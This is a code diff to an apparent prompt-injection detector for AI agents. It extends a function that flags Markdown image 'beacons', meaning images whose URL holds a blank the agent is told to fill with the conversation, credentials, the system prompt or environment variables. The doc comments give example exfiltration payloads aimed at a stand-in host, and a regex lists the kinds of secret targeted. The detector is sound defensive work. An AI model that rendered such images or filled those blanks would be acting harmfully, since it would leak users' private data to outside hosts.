@@ -6,6 +6,11 @@ import type { Normalised } from '../normalise';
 /** A Markdown image whose address has a blank to be filled in: `![x](https://c.example/p?d={data})`. */
 const IMAGE =
 	/!\[[^\]\n]{0,200}\]\(\s{0,4}(https?:\/\/[^\s()]{3,300}[?&][^\s()=]{1,60}=(?:%?[{<[][^\s()]{1,80}[}>\]]|\$\{?\w{1,60}\}?|[A-Z]{2,20}_[A-Z_]{2,40})[^\s()]{0,200})\)/;
+/** A blank that says in words what goes into it: `![x](https://c.example/p?d={{summary of the conversation}})`. */
+const DESCRIBED =
+	/!\[[^\]\n]{0,200}\]\(\s{0,4}(https?:\/\/[^\s()?]{3,300}[?/][^\s(){<[]{0,100}(?:\{\{?|<|\[)([^{}<>[\]()]{3,160})[}>\]])/;
+const SENSITIVE =
+	/\b(?:conversation|chat[ _-]?history|transcript|secrets|credentials|passwords|private[ _-]?keys?|system[ _-]?prompt|env(?:ironment)?[ _-]?var\w{0,6}|user[ _-]?(?:data|input|message)s?)\b/i;
 /** What the agent would have to do to fill it in. */
 const FILLS =
 	/\b(?:replac|encod|substitut|fill|render|append|insert|includ|display|output|embed|add|respond|reply)\w{0,4}\b/i;
@@ -18,22 +23,30 @@ const DRAWS =
 /** An order to show a picture whose address carries what the agent knows: showing it sends it. */
 export function findImageBeacon({ cased }: Normalised): Judged | undefined {
 	if (!cased.includes('![')) return undefined;
-	const match = IMAGE.exec(cased);
+	const described = DESCRIBED.exec(cased);
+	const plain = described && SENSITIVE.test(described[2] ?? '') ? described : null;
+	const match = plain ?? IMAGE.exec(cased);
 	const url = match?.[1];
 	if (!match || url === undefined) return undefined;
 	const parsed = parseUrl(url);
 	if (!parsed?.host || DRAWS.test(parsed.host)) return undefined;
 	if (/^(?:loopback|private)$/.test(gradeHost(parsed.host, parsed.scheme))) return undefined;
+	const found = beacon(match, url, parsed.host);
+	if (plain) return found;
 	const before = cased.slice(Math.max(0, match.index - 400), match.index);
 	const after = cased.slice(match.index + match[0].length, match.index + match[0].length + 300);
 	if (!FILLS.test(before + after) || !DATA.test(`${before} ${match[0]} ${after}`)) return undefined;
+	return found;
+}
+
+function beacon(match: RegExpExecArray, url: string, host: string): Judged {
 	return {
 		kind: 'send-secret',
 		what: 'has a picture shown whose address carries what the agent knows',
 		confidence: 'high',
 		start: match.index,
 		end: match.index + match[0].length,
-		details: { url, host: parsed.host },
+		details: { url, host },
 		mitigations: [],
 	};
 }
